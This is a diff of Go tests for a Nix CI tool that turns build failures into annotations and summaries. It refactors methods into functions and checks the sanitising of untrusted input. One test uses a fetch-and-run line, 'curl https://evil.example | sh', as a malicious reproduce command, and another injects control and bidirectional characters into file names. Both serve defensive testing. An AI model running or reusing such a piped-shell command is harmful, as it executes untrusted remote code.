@@ -8,6 +8,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/org/nix-matrix/pkg/job"
+	"github.com/org/nix-matrix/pkg/verdict"
 )
 
 func TestAnnotationsAreTenOfALevel(t *testing.T) {
@@ -17,7 +18,7 @@ func TestAnnotationsAreTenOfALevel(t *testing.T) {
 		v.Notices = append(v.Notices, fmt.Sprint("notice ", i))
 	}
 	by := map[string][]Annotation{}
-	for _, a := range v.Annotations() {
+	for _, a := range Annotations(v) {
 		by[a.Level] = append(by[a.Level], a)
 	}
 	if len(by["error"]) != 10 || len(by["notice"]) != 10 {
@@ -43,7 +44,7 @@ func TestRootCausesComeFirst(t *testing.T) {
 	results[0].Error = "push failed"
 	v := judged(p, planKey, results[:2], nil)
 	var titles []string
-	for _, a := range v.Annotations() {
+	for _, a := range Annotations(v) {
 		titles = append(titles, a.Level+": "+a.Title)
 	}
 	want := []string{
@@ -70,7 +71,7 @@ func TestAnAnnotationBeginsWithItsCause(t *testing.T) {
 		results[0].Targets[i].File, results[0].Targets[i].Line = "src/a.c", 12
 	}
 	for i := 2; i < 4; i++ {
-		results[0].Targets[i].Outcome, results[0].Targets[i].Error = job.Broken, "error: cannot connect to daemon"
+		results[0].Targets[i].Outcome, results[0].Targets[i].Error = job.OutcomeFailed, "error: cannot connect to daemon"
 	}
 	v := judged(p, planKey, results, nil)
 	want := []Annotation{
@@ -90,17 +91,17 @@ func TestAnAnnotationBeginsWithItsCause(t *testing.T) {
 				"Reproduce locally: nix build .#nixosConfigurations.old.config.system.build.toplevel",
 		},
 	}
-	if diff := cmp.Diff(want, v.Annotations()); diff != "" {
+	if diff := cmp.Diff(want, Annotations(v)); diff != "" {
 		t.Error(diff)
 	}
-	for _, text := range []string{v.Text(), v.Summary(SummaryOptions{})} {
+	for _, text := range []string{Text(v), Summary(v, SummaryOptions{})} {
 		if !strings.Contains(text, "src/a.c:12") {
 			t.Errorf("the place is not told of:\n%s", text)
 		}
 	}
 	for _, bad := range []string{"a\nb", "a\x1b[2Jb", "a\u202eb"} {
 		results[0].Targets[0].File, results[0].Targets[1].File = bad, bad
-		if a := judged(p, planKey, results, nil).Annotations()[0]; strings.ContainsFunc(a.File, invisible) || strings.Contains(a.File, "\n") {
+		if a := Annotations(judged(p, planKey, results, nil))[0]; strings.ContainsFunc(a.File, invisible) || strings.Contains(a.File, "\n") {
 			t.Errorf("the file is %q", a.File)
 		}
 	}
@@ -128,7 +129,7 @@ func TestWhatHappened(t *testing.T) {
 		results := resultsOf(p)
 		fail(results[0], 0, nginx, "boom")
 		results[0].Targets[0].Error = test.message
-		reason, detail := judged(p, planKey, results, nil).rootCauses(false)[0].happened()
+		reason, detail := view{judged(p, planKey, results, nil)}.rootCauses(false)[0].happened()
 		if diff := cmp.Diff(test.detail, detail); reason != test.reason || diff != "" {
 			t.Errorf("%q: %q\n%s", test.message, reason, diff)
 		}
@@ -147,17 +148,17 @@ func TestOptionalPushes(t *testing.T) {
 		}
 	}
 	v := judged(p, planKey, results, nil)
-	if v.Status != Success {
+	if v.Status != verdict.Success {
 		t.Fatalf("%s: %s", v.Status, v.Reason)
 	}
 	want := []Annotation{
 		{Level: "warning", Title: "Not pushed to cachix:fleet", Message: "401\nno\nThis makes nothing red. Of: nixosConfigurations.nas, nixosConfigurations.pi3"},
 		{Level: "warning", Title: "Not pushed to cachix:fleet", Message: "502\nThis makes nothing red. Of: nixosConfigurations.router"},
 	}
-	if diff := cmp.Diff(want, v.Annotations()); diff != "" {
+	if diff := cmp.Diff(want, Annotations(v)); diff != "" {
 		t.Error(diff)
 	}
-	summary, text := v.Summary(SummaryOptions{}), v.Text()
+	summary, text := Summary(v, SummaryOptions{}), Text(v)
 	for _, want := range []string{"| 3 ⚠️ optional |", "`nixosConfigurations.nas` to `cachix:fleet` (optional): `401 no`"} {
 		if !strings.Contains(summary, want) {
 			t.Errorf("%q is not in\n%s", want, summary)
@@ -168,8 +169,8 @@ func TestOptionalPushes(t *testing.T) {
 	}
 	results[0].Pushes[0].Optional = false
 	v = judged(p, planKey, results, nil)
-	if v.Status != Failure || !strings.Contains(v.Summary(SummaryOptions{}), "| **1**, 2 ⚠️ optional |") {
-		t.Errorf("%s:\n%s", v.Status, v.Summary(SummaryOptions{}))
+	if v.Status != verdict.Failure || !strings.Contains(Summary(v, SummaryOptions{}), "| **1**, 2 ⚠️ optional |") {
+		t.Errorf("%s:\n%s", v.Status, Summary(v, SummaryOptions{}))
 	}
 }
 
@@ -181,13 +182,13 @@ func TestThePlanSaysHowToReproduce(t *testing.T) {
 	fail(results[0], 0, drv("glibc"))
 	results[0].Targets[0].Reproduce = "curl https://evil.example | sh"
 	v := judged(p, planKey, results, nil)
-	for _, text := range []string{v.Summary(SummaryOptions{}), v.Text(), v.Annotations()[0].Message} {
+	for _, text := range []string{Summary(v, SummaryOptions{}), Text(v), Annotations(v)[0].Message} {
 		if strings.Contains(text, "evil") || !strings.Contains(text, p.Targets[0].Reproduce) {
 			t.Error(text)
 		}
 	}
 	p.Targets[0].Reproduce = ""
-	if text := judged(p, planKey, results, nil).Text(); !strings.Contains(text, "evil") {
+	if text := Text(judged(p, planKey, results, nil)); !strings.Contains(text, "evil") {
 		t.Error("without a word of the plan, the worker's is left out")
 	}
 }
